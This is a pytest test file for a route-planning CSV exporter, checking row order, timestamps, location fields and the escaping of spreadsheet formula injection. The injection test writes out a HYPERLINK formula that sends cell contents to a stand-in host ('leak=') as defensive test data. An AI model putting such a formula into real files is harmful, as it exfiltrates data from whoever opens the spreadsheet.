"""CSV: one row per stop, in route and driving order, read back with the csv module."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest

from routing.export import CSV_COLUMNS, ExportError, write_csv
from routing.plan import Plan
from tests.routing.export.conftest import HOSTILE, METRO


def read_rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def test_one_row_per_stop_in_route_and_driving_order(plan: Plan, tmp_path: Path) -> None:
    header, rows = read_rows(write_csv(plan, tmp_path / "plan.csv"))

    assert header == list(CSV_COLUMNS)
    expected = [
        (route.technician_id, str(stop.sequence), stop.service_job_id)
        for route in plan.routes
        for stop in route.stops
    ]
    assert [(r["technician_id"], r["sequence"], r["service_job_id"]) for r in rows] == expected
    assert len(rows) == plan.summary.assigned


def test_times_are_local_iso_with_offset_and_match_the_plan(plan: Plan, tmp_path: Path) -> None:
    _, rows = read_rows(write_csv(plan, tmp_path / "plan.csv"))
    stops = [stop for route in plan.routes for stop in route.stops]

    for row, stop in zip(rows, stops, strict=True):
        for column, value in (("arrival", stop.arrival), ("service_start", stop.service_start),
                              ("service_end", stop.service_end)):
            parsed = datetime.fromisoformat(row[column])
            assert parsed == value
            assert parsed.utcoffset() == value.utcoffset()
        window = (datetime.fromisoformat(row["window_start"]),
                  datetime.fromisoformat(row["window_end"]))
        assert window in [(w.start, w.end) for w in stop.windows]
        assert window[0] <= stop.service_start <= window[1]
        assert int(row["travel_time_s"]) == stop.travel_time_s
        assert int(row["wait_s"]) == stop.wait_s


def test_places_and_online_stops(plan: Plan, tmp_path: Path) -> None:
    _, rows = read_rows(write_csv(plan, tmp_path / "plan.csv"))

    online = [row for row in rows if row["location_type"] == "ONLINE"]
    assert online and all(row["lat"] == row["lon"] == row["address"] == "" for row in online)
    placed = [row for row in rows if row["location_type"] != "ONLINE"]
    assert placed
    for row in placed:
        assert METRO["lat"][0] < float(row["lat"]) < METRO["lat"][1]
        assert METRO["lon"][0] < float(row["lon"]) < METRO["lon"][1]
        assert row["precision"] == "postal_code"


def test_text_round_trips_in_utf8(hostile_plan: Plan, tmp_path: Path) -> None:
    _, rows = read_rows(write_csv(hostile_plan, tmp_path / "plan.csv"))

    assert rows[0]["technician_name"] == HOSTILE
    assert rows[0]["address"] == HOSTILE


def test_buyer_never_appears(plan: Plan, tmp_path: Path) -> None:
    text = write_csv(plan, tmp_path / "plan.csv").read_text(encoding="utf-8")

    assert "Pat Buyer" not in text
    assert "206-555-0100" not in text


def test_unwritable_path_is_an_export_error(plan: Plan, tmp_path: Path) -> None:
    target = tmp_path / "missing" / "plan.csv"

    with pytest.raises(ExportError, match="cannot write"):
        write_csv(plan, target)
    assert not target.parent.exists()


def with_text(plan: Plan, text: str) -> Plan:
    """The plan with ``text`` in every outside-data text field of the first stop's row."""
    route = plan.routes[0]
    stop = route.stops[0].model_copy(update={
        "address": text, "service_job_id": text, "appointment_id": text})
    route = route.model_copy(update={
        "technician_id": text, "name": text, "stops": [stop, *route.stops[1:]]})
    return plan.model_copy(update={"routes": [route, *plan.routes[1:]]})


TEXT_COLUMNS = ("technician_id", "technician_name", "service_job_id", "appointment_id",
                "address")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"],
                         ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_cannot_start_a_formula(plan: Plan, tmp_path: Path, start: str) -> None:
    formula = start + 'HYPERLINK("http://x.example/?leak="&A1,"click")'
    path = write_csv(with_text(plan, formula), tmp_path / "plan.csv")
    _, rows = read_rows(path)

    for column in TEXT_COLUMNS:
        assert rows[0][column] == "'" + formula, column
    # As a spreadsheet sees the raw file: no cell of any row starts a formula.
    with path.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and not is_number(cell)]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_negative_numbers_stay_numbers(plan: Plan, tmp_path: Path) -> None:
    _, rows = read_rows(write_csv(with_text(plan, "-42"), tmp_path / "plan.csv"))

    placed = [row for row in rows if row["lon"]]
    assert placed and all(row["lon"].startswith("-") for row in placed)  # Seattle: west
    assert all(float(row["lon"]) < 0 for row in placed)
    assert rows[0]["address"] == "-42"  # a plain number is no formula, whoever wrote it
